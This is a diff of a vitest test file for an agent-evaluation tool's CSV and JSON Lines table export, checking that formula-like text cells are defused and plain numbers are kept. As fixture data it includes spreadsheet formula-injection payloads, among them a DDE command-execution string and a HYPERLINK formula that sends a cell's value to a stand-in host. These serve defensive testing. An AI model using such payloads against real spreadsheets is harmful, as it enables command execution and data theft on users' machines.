@@ -3,7 +3,7 @@
  * score and unit; per-round and per-agent tables; RFC 4180 quoting; deterministic order.
  */
 import { spawnSync } from "node:child_process";
-import { readFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, readdirSync } from "node:fs";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { exportTables, tableToCsv, tableToJsonl } from "../../src/report/export-tables.js";
@@ -111,16 +111,46 @@ describe("export tables in a spreadsheet", () => {
 
   it("defuses text cells that start like a formula; numbers and JSON Lines are untouched", () => {
     expect(tableToCsv(measurements as never).split("\r\n")[1]).toBe(
-      `veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,-0.5,'+units,"'=HYPERLINK(""https://example.invalid/?d=""&A1,""open"")"`,
+      `veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,-0.5,'+units,"'=HYPERLINK(""https://example.invalid/?d=""&A1,""open"")"`,
     );
-    expect(tableToCsv(perRound as never).split("\r\n")[1]).toBe("veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,1,-1.0,'@SUM(A1:A9)");
+    expect(tableToCsv(perRound as never).split("\r\n")[1]).toBe("veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,1,-1.0,'@SUM(A1:A9)");
     expect(tableToCsv(perAgent as never).split("\r\n").slice(1, 3)).toEqual([
-      "veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,'-2+3,1.0,'\tleading tab",
-      `veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,a=b,1.0,"'\rcarriage"`,
+      "veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,'-2+3,1.0,'\tleading tab",
+      `veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,a=b,1.0,"'\rcarriage"`,
     ]);
     expect(tableToJsonl(perAgent as never).split("\n")[0]).toBe(
       '{"scenario":"veyru","run_id":"=cmd|\' /C calc\'!A0","seed":"-7","run_dir":"runs/x","metric_name":"round_success","agent_id":"-2+3","value":1.0,"note":"\\tleading tab"}',
     );
+  });
+});
+
+describe("export tables in a spreadsheet: text that is a number", () => {
+  // a plain number cannot run anything, and an apostrophe would change what pandas reads
+  const NUMERIC = report("sim-1", "veyru", [
+    {
+      metric_name: "m",
+      score: 1,
+      score_unit: "u",
+      summary: "-1",
+      per_round: [],
+      per_agent: [
+        { agent_id: "-3", value: -3, note: "+2" },
+        { agent_id: "-1.5e-3", value: 0, note: "-.5" },
+        { agent_id: "-2+3", value: 0, note: "-" },
+        { agent_id: "+1 ", value: 0, note: "-1E+5" },
+      ],
+    },
+  ]);
+  const [measurements, , perAgent] = exportTables([{ runDir: "r", report: NUMERIC, seed: "-7" }]);
+
+  it("keeps text cells that are plain numbers as they are, and still defuses the rest", () => {
+    expect(tableToCsv(measurements as never).split("\r\n")[1]).toBe("veyru,sim-1,-7,r,m,1.0,u,-1");
+    expect(tableToCsv(perAgent as never).split("\r\n").slice(1, 5)).toEqual([
+      "veyru,sim-1,-7,r,m,-3,-3.0,+2",
+      "veyru,sim-1,-7,r,m,-1.5e-3,0.0,-.5",
+      "veyru,sim-1,-7,r,m,'-2+3,0.0,'-",
+      "veyru,sim-1,-7,r,m,'+1 ,0.0,-1E+5",
+    ]);
   });
 });
 
@@ -195,6 +225,74 @@ describe("agent-eval export", () => {
     expect(result.code).toBe(2);
     expect(result.stderr).toContain(`--out ${out}: cannot create the directory: it exists and is not a directory (EEXIST)`);
     expect(readFileSync(out, "utf8")).toBe("mine");
+  });
+
+  it("--out where one table cannot be written writes none of them (exit 2)", async () => {
+    const root = tempDir();
+    writeRun(root, "r", { "veyru_report.json": serializeReport(TRICKY) });
+    const out = path.join(root, "tables");
+    // the second table's name is taken by a directory: the first must not be left behind alone
+    mkdirSync(path.join(out, "per_round.csv"), { recursive: true });
+    const result = await cli("export", "--reports", path.join(root, "r"), "--out", out);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain(`${path.join(out, "per_round.csv")}: cannot write it`);
+    expect(readdirSync(out)).toEqual(["per_round.csv"]);
+  });
+
+  it.skipIf(!existsSync("/proc/self"))("--out in a place no directory can be made fails at once (exit 2) instead of looping", async () => {
+    const root = tempDir();
+    writeRun(root, "r", { "veyru_report.json": serializeReport(PLAIN) });
+    // procfs answers ENOENT to mkdir, which sent Node's recursive mkdir into an endless loop
+    const result = await cli("export", "--reports", path.join(root, "r"), "--out", "/proc/agent-eval-no-such/tables");
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain("--out /proc/agent-eval-no-such/tables: cannot create the directory");
+  }, 10_000);
+
+  it("writes a seed beyond 2^53 with the digits the event log holds (it was rounded: 12345678901234567891 -> ...7000)", async () => {
+    const root = tempDir();
+    // python3: int("12345678901234567891") is exact; float() of it is 1.2345678901234567e+19
+    const seed = "12345678901234567891";
+    const log = veyruRun(1, ["ab"]).replace('"seed":1', `"seed":${seed}`);
+    expect(log).toContain(`"seed":${seed}`);
+    const run = writeRun(root, "runs/big", { "veyru.jsonl": log });
+    expect((await cli("evaluate", "--run-dir", run, "--metrics", "round_success")).code).toBe(0);
+    const csv = await cli("export", "--run-dir", run);
+    expect(csv.stdout.split("\r\n")[1]).toMatch(new RegExp(`^veyru,sim-1,${seed},`));
+    const out = path.join(root, "t");
+    expect((await cli("export", "--run-dir", run, "--format", "jsonl", "--out", out)).code).toBe(0);
+    expect(readFileSync(path.join(out, "measurements.jsonl"), "utf8")).toContain(`"seed":${seed},`);
+    // diff reads the seed the same way, to pair runs by it
+    for (const format of ["json", "markdown", "text"]) {
+      const diffed = await cli("diff", "--baseline", run, "--candidate", run, "--format", format);
+      expect(diffed.stderr).not.toContain("BigInt");
+      expect(diffed.code).not.toBe(2);
+    }
+  });
+
+  it("--bom starts each CSV with a UTF-8 byte-order mark, for Excel; refused with JSON Lines (exit 2)", async () => {
+    const root = tempDir();
+    writeRun(root, "r", { "veyru_report.json": serializeReport(TRICKY) });
+    const out = path.join(root, "t");
+    const result = await cli("export", "--reports", path.join(root, "r"), "--bom", "--out", out);
+    expect(result.code).toBe(0);
+    for (const table of ["measurements", "per_round", "per_agent"]) {
+      const bytes = readFileSync(path.join(out, `${table}.csv`));
+      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      expect(bytes.subarray(3).toString("utf8")).toMatch(/^scenario,run_id,seed,run_dir,metric_name,/);
+    }
+    const stdout = await cli("export", "--reports", path.join(root, "r"), "--bom");
+    expect(stdout.stdout.startsWith("\ufeffscenario,")).toBe(true);
+    const jsonl = await cli("export", "--reports", path.join(root, "r"), "--bom", "--format", "jsonl");
+    expect(jsonl.code).toBe(2);
+    expect(jsonl.stderr).toContain("--bom applies to --format csv");
+  });
+
+  it("names a trial report given to it as one, not as a run report missing simulation_id (exit 2)", async () => {
+    const file = path.resolve(import.meta.dirname, "../fixtures/trial-reports/capitals.report.json");
+    const result = await cli("export", "--reports", file);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain(`--reports ${file}: a trial report (agent-eval grade), where run reports (agent-eval evaluate) are expected`);
+    expect(result.stderr).not.toContain("simulation_id");
   });
 
   it("exports a report file written by another tool", async () => {
